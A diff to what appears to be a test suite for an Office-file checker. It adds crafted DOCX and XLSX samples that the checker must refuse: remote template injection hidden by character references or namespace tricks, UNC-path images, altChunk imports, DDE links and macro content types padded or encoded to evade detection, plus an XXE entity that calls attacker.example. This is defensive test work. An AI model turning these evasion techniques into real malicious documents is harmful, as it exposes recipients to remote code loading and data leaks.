@@ -76,6 +76,7 @@ LOADED = (
     b'<Relationships><Relationship Id="r1" Type="http://x/relationships/%s" Target="%s" '
     b'TargetMode="External"/></Relationships>'
 )
+TEMPLATE = LOADED % (b"attachedTemplate", b"https://x/t.dotm")
 XXE = b"<!DOCTYPE x [<!ENTITY a SYSTEM 'http://attacker.example/'>]>"
 REFUSED |= {
     "entities": (archive(DOCX_MAIN, content=XXE + b"<x>&a;</x>"), "docx", "load other files"),
@@ -104,6 +105,60 @@ REFUSED |= {
         "docx",
         "load other files",
     ),
+    "a template whose address is written in numbers": (
+        archive(
+            DOCX_MAIN,
+            RELATIONS,
+            content=LOADED % (b"attached&#84;emplate", b"&#104;ttps://x/t.dotm"),
+        ),
+        "docx",
+        "load other files",
+    ),
+    "a template behind a sign of closing": (
+        archive(DOCX_MAIN, RELATIONS, content=TEMPLATE.replace(b"r1", b"a>b")),
+        "docx",
+        "load other files",
+    ),
+    "a template of an odd family": (
+        archive(
+            DOCX_MAIN,
+            RELATIONS,
+            content=TEMPLATE.replace(b"<Rel", b"<a.b:Rel", 1)
+            .replace(b"<Relationship ", b"<a.b:Relationship ")
+            .replace(b"</Rel", b"</a.b:Rel"),
+        ),
+        "docx",
+        "load other files",
+    ),
+    "a picture on another machine": (
+        archive(DOCX_MAIN, RELATIONS, content=LOADED % (b"image", rb"\\x\share\a.png")),
+        "docx",
+        "load other files",
+    ),
+    "a page taken in": (
+        archive(DOCX_MAIN, RELATIONS, content=LOADED % (b"aFChunk", b"/word/page.html")),
+        "docx",
+        "load other files",
+    ),
+    "a program as a source of cells": (
+        archive(XLSX_MAIN, "xl/externalLinks/e.xml", content=b"<e><ddeLink ddeService='x'/></e>"),
+        "xlsx",
+        "load other files",
+    ),
+    "macros whose type is written in numbers": (
+        archive(DOCX_MAIN, types=b"<Types><Override ContentType='a/vba&#80;roject'/></Types>"),
+        "docx",
+        "macros",
+    ),
+    "macros behind a megabyte of nothing": (
+        archive(
+            DOCX_MAIN,
+            types=b"<Types>" + b" " * 1_100_000 + b"<Override ContentType='a/vbaProject'/></Types>",
+        ),
+        "docx",
+        "macros",
+    ),
+    "a list of types that is no XML": (archive(DOCX_MAIN, types=b"<Types>"), "docx", "damaged"),
     "macros in UTF-16": (
         archive(DOCX_MAIN, types="<x a='macroEnabled'/>".encode("utf-16")),
         "docx",
